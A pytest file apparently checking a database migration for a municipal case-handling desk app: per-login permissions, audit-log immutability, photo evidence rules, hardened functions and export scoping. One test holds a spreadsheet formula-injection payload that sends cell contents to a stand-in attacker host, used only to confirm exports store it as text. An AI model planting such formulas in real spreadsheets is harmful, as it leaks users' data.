"""What migration 0011 promises about an action's evidence, tried the way a seat with
psql would: over the seat's real login, with raw SQL, every transaction rolled back.

The collector's reply must be real text (a JSON string that is not blank by any white
space a desk types, U+3000 included), the photo must be of this case and of this round,
the audit event records what was asked and answered and nothing a caller slips in, and
only an administrator waives the result photo."""

from __future__ import annotations

import io
import json
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from PIL import Image
from sqlalchemy import Connection, Engine, create_engine, text
from sqlalchemy.exc import DBAPIError

from seatdesk.db import migrate
from seatdesk.db.engine import ServerAddress, connect, make_engine, session_factory
from seatdesk.demo import DemoResult
from seatdesk.domain.glossary import Role
from seatdesk.domain.workflow import RESULT_PHOTO_SETTING
from seatdesk.services import calendar, common, exports, queues
from seatdesk.services.queues import QueueQuery
from tests.core.conftest import Desk

_PHOTO = """
    SELECT seatdesk_add_photos(:i, :step, ARRAY['p.png'], ARRAY[CAST(:data AS bytea)],
                               ARRAY[NULL::bytea], ARRAY[NULL::timestamptz], :v)
"""
_ACT = "SELECT seatdesk_case_act(:i, :v, :action, :note, CAST(:args AS jsonb))"


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (30, 140, 70)).save(out, "PNG")
    return out.getvalue()


@pytest.fixture
def acceptor(server: ServerAddress, seeded: DemoResult) -> Iterator[Connection]:
    """The acceptor's own login, in a transaction that is rolled back."""
    engine: Engine = connect(server.for_login("acceptor1", seeded.passwords["acceptor1"]))
    try:
        with engine.connect() as conn:
            conn.begin()
            try:
                yield conn
            finally:
                conn.rollback()
    finally:
        engine.dispose()


def _verifying(conn: Connection, skip: int = 0) -> tuple[int, int]:
    """(id, version) of a demo case waiting for its verification."""
    row = conn.execute(
        text("SELECT id, version FROM cases WHERE state = 'verifying' ORDER BY id "
             "OFFSET :n LIMIT 1"), {"n": skip}
    ).one()
    return int(row[0]), int(row[1])


def _photo(conn: Connection, case_id: int, version: int | None, step: str = "verify") -> None:
    conn.execute(text(_PHOTO), {"i": case_id, "step": step, "data": _png(), "v": version})


def _act(conn: Connection, case_id: int, version: int, action: str,
         args: dict[str, Any] | None = None, note: str | None = None) -> int:
    return int(conn.execute(text(_ACT), {
        "i": case_id, "v": version, "action": action, "note": note,
        "args": json.dumps(args or {}),
    }).scalar_one())


def _refusal(conn: Connection, sql: str, **params: Any) -> str:
    """The database's refusal of ``sql``, in a savepoint the transaction survives."""
    with pytest.raises(DBAPIError) as err, conn.begin_nested():
        conn.execute(text(sql), params)
    return str(err.value.orig)


def _act_refusal(conn: Connection, case_id: int, version: int, action: str,
                 args: dict[str, Any]) -> str:
    return _refusal(conn, _ACT, i=case_id, v=version, action=action, note=None,
                    args=json.dumps(args))


# ---- Holes found in review, closed in 0011


@pytest.mark.parametrize("blank", ["\u3000\u3000", "\t\n", "\u00a0 \r\n", "\u2003"])
def test_a_reply_of_white_space_only_is_no_reply(acceptor: Connection, blank: str) -> None:
    case_id, version = _verifying(acceptor)
    _photo(acceptor, case_id, version)
    assert "reply: required" in _act_refusal(
        acceptor, case_id, version, "verify_pass", {"reply": blank}
    )


@pytest.mark.parametrize("reply", [[], {}, 0, True, ["属实"]])
def test_a_reply_that_is_not_text_is_no_reply(acceptor: Connection, reply: Any) -> None:
    case_id, version = _verifying(acceptor)
    _photo(acceptor, case_id, version)
    assert "reply: required" in _act_refusal(
        acceptor, case_id, version, "verify_fail", {"reply": reply}
    )


def test_a_collector_of_white_space_only_is_no_collector(acceptor: Connection) -> None:
    case_id, version = _verifying(acceptor)
    _photo(acceptor, case_id, version)
    _act(acceptor, case_id, version, "verify_fail", {"reply": "现场未见问题"})
    assert "collector: required" in _act_refusal(
        acceptor, case_id, version + 1, "request_verify", {"collector": "\u3000"}
    )
    assert "collector: required" in _act_refusal(
        acceptor, case_id, version + 1, "request_verify", {"collector": 12345}
    )


def test_a_required_note_of_white_space_only_is_no_note(
    server: ServerAddress, seeded: DemoResult
) -> None:
    # A void needs its note (the shift leader's, on any open case).
    engine = connect(server.for_login("leader1", seeded.passwords["leader1"]))
    try:
        with engine.connect() as conn:
            conn.begin()
            case_id, version = _verifying(conn)
            assert "note: required" in _refusal(
                conn, _ACT, i=case_id, v=version, action="void", note="\u3000\t", args="{}"
            )
            conn.rollback()
    finally:
        engine.dispose()


# ---- What holds


def test_the_reply_is_recorded_trimmed_and_a_slipped_in_collector_is_not(
    acceptor: Connection,
) -> None:
    case_id, version = _verifying(acceptor)
    _photo(acceptor, case_id, version)
    _act(acceptor, case_id, version, "verify_pass",
         {"reply": "\u3000现场属实\n", "collector": "伪造的采集员", "deadline": "forged"})
    data = acceptor.execute(text(
        "SELECT data FROM case_events WHERE case_id = :i ORDER BY id DESC LIMIT 1"
    ), {"i": case_id}).scalar_one()
    assert data["reply"] == "现场属实"
    assert "collector" not in data
    assert data.get("deadline") != "forged"
    # The event is the audit log's: nobody rewrites it afterwards.
    _refusal(acceptor, "UPDATE case_events SET data = '{}' WHERE case_id = :i", i=case_id)


def test_a_photo_of_an_earlier_round_does_not_count(acceptor: Connection) -> None:
    case_id, version = _verifying(acceptor)
    _photo(acceptor, case_id, version)
    _act(acceptor, case_id, version, "verify_fail", {"reply": "现场未见问题"})
    _act(acceptor, case_id, version + 1, "request_verify", {"collector": "采集员张三"})
    # The verify photo above was attached before the case last changed state.
    assert "action_photo" in _act_refusal(
        acceptor, case_id, version + 2, "verify_pass", {"reply": "属实"}
    )


def test_a_photo_of_another_case_does_not_count(acceptor: Connection) -> None:
    case_id, version = _verifying(acceptor)
    other, other_version = _verifying(acceptor, skip=1)
    _photo(acceptor, other, other_version)
    assert "action_photo" in _act_refusal(
        acceptor, case_id, version, "verify_pass", {"reply": "属实"}
    )


def test_a_photo_is_stamped_by_the_database_not_the_caller(acceptor: Connection) -> None:
    assert "permission denied" in _refusal(
        acceptor,
        "INSERT INTO attachments (case_id, step, filename, content_type, size, data, "
        "uploaded_at) VALUES (1, 'verify', 'x.png', 'image/png', 1, '\\x00', now() + "
        "interval '1 year')",
    )


@pytest.mark.parametrize("login", ["acceptor1", "leader1", "dept_sz", "monitor1"])
def test_only_an_admin_waives_the_result_photo(
    server: ServerAddress, seeded: DemoResult, login: str
) -> None:
    engine = connect(server.for_login(login, seeded.passwords[login]))
    try:
        with engine.connect() as conn:
            conn.begin()
            for sql in (
                f"SELECT seatdesk_set_centre_setting('{RESULT_PHOTO_SETTING}', 'false')",
                f"UPDATE centre_settings SET value = 'false' WHERE key = '{RESULT_PHOTO_SETTING}'",
                f"DELETE FROM centre_settings WHERE key = '{RESULT_PHOTO_SETTING}'",
                "UPDATE workflow_actions SET photo_required = false",
            ):
                assert "permission denied" in _refusal(conn, sql)
            conn.rollback()
    finally:
        engine.dispose()


def test_the_admin_waives_it_with_a_boolean_only(
    server: ServerAddress, seeded: DemoResult
) -> None:
    engine = connect(server.for_login("admin1", seeded.passwords["admin1"]))
    try:
        with engine.connect() as conn:
            conn.begin()
            for value in ('"false"', "0", "null", "[]"):
                assert "true or false" in _refusal(
                    conn, "SELECT seatdesk_set_centre_setting(:k, CAST(:v AS jsonb))",
                    k=RESULT_PHOTO_SETTING, v=value,
                )
            conn.rollback()
    finally:
        engine.dispose()


def test_the_evidence_functions_are_hardened(acceptor: Connection) -> None:
    rows = acceptor.execute(text("""
        SELECT p.proname, p.prosecdef, p.proconfig,
               has_function_privilege('public', p.oid, 'EXECUTE') AS public_may
        FROM pg_proc p
        WHERE p.proname IN ('seatdesk_case_act', 'seatdesk_set_centre_setting')
    """)).all()
    assert len(rows) == 2
    for name, definer, config, public_may in rows:
        assert definer, name
        assert "search_path=public, pg_temp" in (config or []), name
        assert not public_may, name


@pytest.mark.parametrize("needle", ["%", "_", "\\", "%_%", "2%", "%" * 5000])
def test_search_wildcards_are_plain_characters(
    server: ServerAddress, seeded: DemoResult, needle: str
) -> None:
    # No case text holds these characters: a needle of them finds nothing, for a
    # department's seat (slices of its queue) as for the centre's (the indexed shapes).
    for login, role in (("dept_sz", Role.DEPARTMENT), ("acceptor1", Role.ACCEPTOR)):
        engine = connect(server.for_login(login, seeded.passwords[login]))
        try:
            with session_factory(engine)() as s:
                query = QueueQuery(role=role, text=needle, include_closed=True)
                assert queues.queue(s, query).rows == []
                assert queues.count_matching(s, query) == 0
        finally:
            engine.dispose()


def test_going_down_from_0011_keeps_the_functions_closed(server: ServerAddress) -> None:
    name = f"seatdesk_down_{uuid.uuid4().hex[:8]}"
    admin = create_engine(server.url.set(database="postgres"), isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f'CREATE DATABASE "{name}"'))
    engine = make_engine(ServerAddress(url=server.url.set(database=name), embedded=False))
    try:
        migrate.upgrade(engine)
        migrate.downgrade(engine, "0010")
        with engine.connect() as conn:
            rows = conn.execute(text("""
                SELECT p.proname, p.prosecdef, p.proconfig,
                       has_function_privilege('public', p.oid, 'EXECUTE')
                FROM pg_proc p
                WHERE p.proname IN ('seatdesk_case_act', 'seatdesk_set_centre_setting')
            """)).all()
            notes = conn.execute(text(
                "SELECT action FROM workflow_actions WHERE note_required "
                "AND action IN ('verify_fail', 'check_fail') ORDER BY action"
            )).scalars().all()
            setting = conn.execute(text(
                "SELECT count(*) FROM centre_settings WHERE key = :k"
            ), {"k": RESULT_PHOTO_SETTING}).scalar_one()
        assert len(rows) == 2
        for proname, definer, config, public_may in rows:
            assert definer and not public_may, proname
            assert "search_path=public, pg_temp" in config, proname
        assert notes == ["check_fail", "verify_fail"]
        assert setting == 0
        migrate.upgrade(engine)
    finally:
        engine.dispose()
        with admin.connect() as conn:
            conn.execute(text(f'DROP DATABASE "{name}" WITH (FORCE)'))
        admin.dispose()


def test_a_department_adds_photos_of_its_own_step_to_its_own_cases_only(
    server: ServerAddress, seeded: DemoResult
) -> None:
    engine = connect(server.for_login("dept_sz", seeded.passwords["dept_sz"]))
    try:
        with engine.connect() as conn:
            conn.begin()
            case_id, version = conn.execute(text(
                "SELECT id, version FROM cases WHERE state = 'handling' ORDER BY id LIMIT 1"
            )).one()
            for step in ("verify", "check", "report"):
                assert "may not add" in _refusal(
                    conn, _PHOTO, i=case_id, step=step, data=_png(), v=version
                )
            # Another department's case does not exist for this seat.
            other = _other_departments_case(server)
            assert f"no case {other}" in _refusal(
                conn, _PHOTO, i=other, step="handling", data=_png(), v=None
            )
            conn.rollback()
    finally:
        engine.dispose()


def _other_departments_case(server: ServerAddress) -> int:
    """A case in handling at another department than SZ (read as the owner)."""
    engine = make_engine(server)
    try:
        with engine.connect() as conn:
            return int(conn.execute(text(
                "SELECT id FROM cases WHERE state = 'handling' AND current_department <> 'SZ' "
                "ORDER BY id LIMIT 1"
            )).scalar_one())
    finally:
        engine.dispose()


def test_an_export_writes_a_formula_typed_into_a_case_as_text(desk: Desk, tmp_path: Path) -> None:
    # A caller dictates the address; whatever starts with "=" must stay text in Excel,
    # or opening the export runs it (a link to anywhere, DDE, a sheet's other cells).
    formula = '=HYPERLINK("http://evil.example/?"&B3,"点此查看")'
    case_id = desk.new_case(address=formula)
    number = desk.scalar("SELECT number FROM cases WHERE id = :i", i=case_id)
    target = tmp_path / "queue.xlsx"
    with desk.as_(Role.ACCEPTOR) as s:
        exports.export_queue(s, QueueQuery(text=number), target)
    sheet = openpyxl.load_workbook(target).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
    assert cells, "the address is in the export"
    assert all(c.data_type == "s" for c in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_departments_own_login_exports_its_own_cases_only(
    server: ServerAddress, seeded: DemoResult, tmp_path: Path
) -> None:
    owner = make_engine(server)
    try:
        with owner.connect() as conn:
            own = conn.execute(text(
                "SELECT count(*) FROM cases WHERE current_department = 'SZ'"
            )).scalar_one()
    finally:
        owner.dispose()
    engine = connect(server.for_login("dept_sz", seeded.passwords["dept_sz"]))
    try:
        with session_factory(engine)() as s:
            # Asking for another department's cases, as a hand-made query would.
            elsewhere = exports.export_queue(
                s, QueueQuery(department="ZFJ", include_closed=True), tmp_path / "zfj.xlsx"
            )
            mine = exports.export_queue(s, QueueQuery(include_closed=True), tmp_path / "sz.xlsx")
    finally:
        engine.dispose()
    assert elsewhere.rows == 0
    assert mine.rows == own > 0


def test_the_admin_names_the_centre_and_a_seat_cannot(
    server: ServerAddress, seeded: DemoResult
) -> None:
    admin = connect(server.for_login("admin1", seeded.passwords["admin1"]))
    seat = connect(server.for_login("acceptor1", seeded.passwords["acceptor1"]))
    try:
        with seat.connect() as conn:
            conn.begin()
            assert "permission denied" in _refusal(
                conn, "SELECT seatdesk_set_centre_setting('centre_name', '\"假中心\"')"
            )
            conn.rollback()
        with admin.connect() as conn:
            conn.begin()
            for value in ('""', '"\u3000 "', "12", '"' + "城" * 61 + '"'):
                assert "1 to 60 characters" in _refusal(
                    conn, "SELECT seatdesk_set_centre_setting('centre_name', CAST(:v AS jsonb))",
                    v=value,
                )
            conn.rollback()
        with session_factory(admin).begin() as session:
            calendar.set_centre_name(session, "  平阳县数字城管指挥中心 ")
            assert common.centre_name(session) == "平阳县数字城管指挥中心"
            session.rollback()  # the shared test database keeps no name
    finally:
        admin.dispose()
        seat.dispose()
